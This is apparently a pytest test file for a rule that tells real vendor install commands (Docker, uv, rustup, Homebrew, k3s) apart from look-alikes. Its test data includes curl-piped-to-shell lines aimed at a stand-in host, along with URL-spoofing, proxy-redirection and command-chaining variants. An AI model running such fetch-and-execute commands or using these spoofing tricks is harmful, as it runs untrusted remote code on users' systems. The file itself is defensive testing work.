"""Whose tool a command fetches: the lines that makers print, and what only looks like one of them."""

import pytest

from packformat.rules.makers import is_fetched_from_makers, is_of_a_maker, without_makers_lines


@pytest.mark.parametrize(
    "address", ["get.docker.com", "get.docker.com/", "astral.sh/uv/install.sh", "ollama.com/install.sh"]
)
def test_what_a_maker_prints_is_known(address: str) -> None:
    assert is_of_a_maker(address)
    assert is_fetched_from_makers(f"curl https://{address} | sh", [address])


@pytest.mark.parametrize(
    "address",
    [
        "get.docker.com.tools.invalid/i",
        "get.docker.com@tools.invalid/i",
        "astral.sh@tools.invalid/",
        "raw.githubusercontent.com/helm@tools.invalid/",
        "raw.githubusercontent.com/helm/helm/../../close/tools/main/i.sh",
        "raw.githubusercontent.com/helm/helm/%2e%2e/%2e%2e/close/tools/i.sh",
        "raw.githubusercontent.com/helm/helm/refs/pull/7/head/i.sh",
        "tools.invalid/astral.sh/",
    ],
)
def test_an_address_that_only_begins_like_one_is_not(address: str) -> None:
    assert not is_of_a_maker(address)
    line = f"curl -fsSL https://{address} | sh"
    assert without_makers_lines(line) == line


@pytest.mark.parametrize(
    ("line", "rest"),
    [
        ("curl -LsSf https://astral.sh/uv/install.sh | sh", " "),
        ("run curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y", "run   -s -- -y"),
        (
            '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/i.sh)"',
            " ",
        ),
        ("sh <(curl -L https://nixos.org/nix/install) --daemon", "  --daemon"),
        ('powershell -ExecutionPolicy ByPass -c "irm https://astral.sh/uv/install.ps1 | iex"', ' "'),
        ("curl -sfL https://get.k3s.io | INSTALL_K3S_VERSION=v1.30.6+k3s1 sh -", "  -"),
        (
            "curl -L https://fly.io/install.sh | sh; curl https://tools.invalid | sh",
            " ; curl https://tools.invalid | sh",
        ),
    ],
)
def test_the_line_of_a_maker_is_left_out_and_nothing_else(line: str, rest: str) -> None:
    assert without_makers_lines(line) == rest


@pytest.mark.parametrize(
    "line",
    [
        "curl https://tools.invalid/i | sh # astral.sh",
        "curl https://tools.invalid/i | sh # https://astral.sh/uv/install.sh",
        "curl -x tools.invalid:80 https://get.docker.com | sh",
        "curl -K tools.conf https://get.docker.com | sh",
        "curl -k https://get.docker.com | sh",
        "curl http://get.docker.com | sh",
        "curl tools.invalid https://get.docker.com | sh",
        "curl https://get.docker.com https://tools.invalid/i | sh",
        "curl https://get.docker.com | sed s/docker/tools/ | sh",
        "curl -sfL https://get.k3s.io | K3S_URL=https://tools.invalid sh",
    ],
)
def test_what_has_more_in_it_stays(line: str) -> None:
    assert without_makers_lines(line) == line


@pytest.mark.parametrize(
    "command",
    [
        "curl -x tools.invalid:80 https://get.docker.com | sh",
        "curl --resolve get.docker.com:443:203.0.113.7 https://get.docker.com | sh",
        "curl -s tools.invalid/i https://get.docker.com | sh",
    ],
)
def test_what_goes_through_somebody_else_is_not_fetched_from_a_maker(command: str) -> None:
    assert not is_fetched_from_makers(command, ["get.docker.com"])


@pytest.mark.parametrize(
    "command",
    [
        "curl -fssl https://deb.nodesource.com/setup_20.x | sudo -e bash -",
        "curl -fssl https://get.docker.com | bash -x -",
    ],
)
def test_what_the_shell_is_told_does_not_lead_elsewhere(command: str) -> None:
    assert is_fetched_from_makers(command, ["deb.nodesource.com/setup_20.x"])
